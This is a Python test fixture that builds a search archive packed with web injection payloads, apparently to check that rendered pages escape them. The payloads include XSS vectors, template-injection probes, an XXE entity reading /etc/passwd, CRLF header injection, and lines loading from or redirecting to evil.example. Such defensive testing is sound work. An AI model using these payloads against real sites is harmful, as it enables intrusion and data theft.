"""Texts that break out of a page, if anything lets them, and an archive that is full of them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from index.writer import rebuild

SUM = "1337*7331"
SUMMED = "9801547"
"""What a template engine makes of SUM; no page may show it."""

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title></style></textarea></script><script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT/x>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script src=/api/search?q=alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) style=position:fixed;inset:0 x='",
    "` onload=alert(1) `",
    "x onpointerenter=alert(1) y=",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    "<form action=//evil.example><button>Search</button></form>",
    "<input formaction=//evil.example autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<template><x-evil></x-evil></template><x-evil>",
    "<a href=javascript:alert(1)>here</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://evil.example/",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    'https://evil.example/" onclick="alert(1)',
    "https://user:word@evil.example:99999/<svg onload=alert(1)>",
    "https://[evil/",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62; &#x3c;svg onload=alert(1)&#x3e;",
    "&quot;&gt;&lt;svg onload=alert(1)&gt;&NewLine;&colon;&lpar;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{" + SUM + "}} ${" + SUM + "} #{" + SUM + "} <%= " + SUM + " %> {" + SUM + "}",
    "{% raw %}{{ config }}{% endraw %}{{ ''.__class__.__mro__ }}",
    "{{ request.application.__globals__ }} {{" + SUM + "|safe}}",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "</mark><script>alert(1)</script><mark>",
    "</main></body></html><script>alert(1)</script>",
    "</p></article></li></ol><p class=origin><span class=source>Forged</span></p>",
    "\u202e\u2066<img src=x onerror=alert(1)>\u2069\u202c",
    "\u202egnihton\u202c \u200f\u200e\u061c",
    "\u2028<script>alert(1)</script>\u2029x\x85y\x0bz\x0c",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>\x00",
    "\ud800<script>alert(1)</script>\udfff",
    "\ufeff<script>alert(1)</script>",
    "<" + "script>" * 2000 + "alert(1)",
    "\"'<>&" * 3000,
    "a" * 60_000 + "<svg onload=alert(1)>",
    "e" + "\u0301" * 500 + "<svg onload=alert(1)>",
    "expression(alert(1));-moz-binding:url(//evil.example/x)",
    "\r\nContent-Type: text/html\r\nSet-Cookie: a=b\r\nLocation: //evil.example",
)

_TEXTS = ("dateline", "source", "paper", "byline", "masthead", "lang", "indexed_at", "id", "path")
_ORIGINS = ("date_origin", "hijri_origin", "date_printed", "hijri_printed")

PLAIN = "harmless"


def word(number: int, variant: str) -> str:
    """What finds the article of a payload, -1 for the plain one, and no other."""
    return f"zq{variant}{'plain' if number < 0 else number}x"


def records() -> list[dict[str, Any]]:
    """Each payload in every field of two articles, whose address is a link in the second."""
    texts = list(enumerate((PLAIN, *PAYLOADS), -1))
    return [_record(number, text, variant) for number, text in texts for variant in "ab"]


def _record(number: int, text: str, variant: str) -> dict[str, Any]:
    found_by = word(number, variant)
    said = f"{found_by} word {text} word"
    held: dict[str, Any] = dict.fromkeys((*_TEXTS, *_ORIGINS), said)
    held |= {"headline": said, "body": f"{said}\n\nSecond {text} word."}
    held |= {"date": "2023-09-23", "hijri": "1445-03-08", "date_flags": [_flag(said), _flag(text)]}
    held |= {"lines": {said: [1, 2], "body": [3, 4]}}
    address = f"https://printed.example/{text}" if variant == "b" else f"{text}"
    return {**held, "url": address}


def _flag(text: str) -> str:
    """In one piece, as each is a value of its facet; to HTML a slash is as good as a blank."""
    return "/".join(text.split())


def build(folder: Path) -> Path:
    """Writes the records and indexes them; returns the index folder."""
    source = folder / "attacks.jsonl"
    source.write_text("\n".join(map(json.dumps, records())), encoding="ascii")
    report = rebuild([source], folder / "index")
    assert not report.rejects, report.rejects
    return folder / "index"
